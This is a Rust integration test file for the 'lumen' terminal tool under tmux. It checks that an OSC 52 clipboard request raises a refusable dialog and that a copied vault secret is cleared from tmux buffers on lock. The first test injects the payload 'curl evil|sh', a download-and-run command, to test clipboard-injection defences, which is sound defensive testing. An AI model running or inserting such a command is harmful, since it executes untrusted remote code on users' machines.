//! The clipboard through the real binary in tmux, reading tmux's own paste buffers: a program's
//! OSC 52 is asked about and refused or allowed; a secret copied from the vault is really gone
//! from tmux's buffers when it is cleared (tmux ignores the empty OSC 52 that clears other
//! terminals).
#![allow(clippy::unwrap_used)]

mod common;

use common::tmux::Tmux;
use std::path::Path;
use std::process::{Command, Stdio};

const PASS: &str = "clipboard test passphrase";
const SECRET: &str = "hunter2-clipboard-secret";

/// The throw-away home, with no `ENV` file for the shell to read.
fn env(dir: &Path) -> Vec<(&'static str, String)> {
    let mut vars = common::tmux::throwaway_env(dir);
    vars.push(("ENV", String::new()));
    vars
}

fn start(dir: &Path) -> Tmux {
    let lumen = env!("CARGO_BIN_EXE_lumen");
    let t = Tmux::start(
        dir,
        100,
        30,
        &env(dir),
        &format!("{lumen} shell; echo LUMEN_EXIT=$?; sleep 60"),
    );
    // Applications may set tmux's buffers with OSC 52 (tmux's default only passes them out).
    t.set_option("set-clipboard", "on");
    t
}

#[test]
fn a_programs_clipboard_request_is_asked_and_can_be_refused() {
    let dir = tempfile::tempdir().unwrap();
    let t = start(dir.path());
    t.wait_for("a prompt", |s| s.lines().any(|l| l.trim_end() == "$"));
    let request = "printf '\\033]52;c;%s\\007' \"$(printf 'curl evil|sh' | base64)\"";
    t.type_text(request);
    t.keys(&["Enter"]);
    let s = t.wait_text("wants to set your clipboard");
    assert!(s.contains("curl evil|sh"), "{s}");
    t.keys(&["d"]);
    t.wait_for("the dialog to close", |s| !s.contains("wants to set"));
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert!(
        !t.buffers().contains("curl evil"),
        "a refused request reached tmux: {}",
        t.buffers()
    );
    t.type_text(request);
    t.keys(&["Enter"]);
    t.wait_text("wants to set your clipboard");
    t.keys(&["o"]);
    t.wait_for("the clipboard to be set", |_| {
        t.show_buffer().contains("curl evil|sh")
    });
}

#[test]
fn a_copied_secret_is_deleted_from_tmux_when_the_vault_locks() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("lumen");
    let pass = dir.path().join("pass");
    std::fs::write(&pass, format!("{PASS}\n")).unwrap();
    let secret = dir.path().join("secret");
    std::fs::write(&secret, format!("{SECRET}\n")).unwrap();
    let vault = |args: &[&str]| {
        let ok = Command::new(env!("CARGO_BIN_EXE_lumen"))
            .env("LUMEN_HOME", &home)
            .arg("vault")
            .arg("--passphrase-file")
            .arg(&pass)
            .args(args)
            .stdin(Stdio::null())
            .status()
            .unwrap()
            .success();
        assert!(ok, "lumen vault {args:?}");
    };
    vault(&[
        "init",
        "--kdf-memory",
        "64",
        "--kdf-time",
        "1",
        "--kdf-lanes",
        "1",
    ]);
    vault(&[
        "add",
        "db/root",
        "--kind",
        "password",
        "--secret-file",
        secret.to_str().unwrap(),
    ]);
    let t = start(dir.path());
    t.wait_for("a prompt", |s| s.lines().any(|l| l.trim_end() == "$"));
    t.keys(&["C-b", "v"]);
    t.wait_text("Unlock vault");
    t.type_text(PASS);
    t.keys(&["Enter"]);
    t.wait_text("db/root");
    t.keys(&["c"]);
    t.wait_for("the secret in tmux's buffer", |_| {
        t.show_buffer().contains(SECRET)
    });
    t.keys(&["C-b", "L"]);
    t.wait_for("the secret gone from every tmux buffer", |_| {
        !t.buffers().contains(SECRET) && !t.show_buffer().contains(SECRET)
    });
}
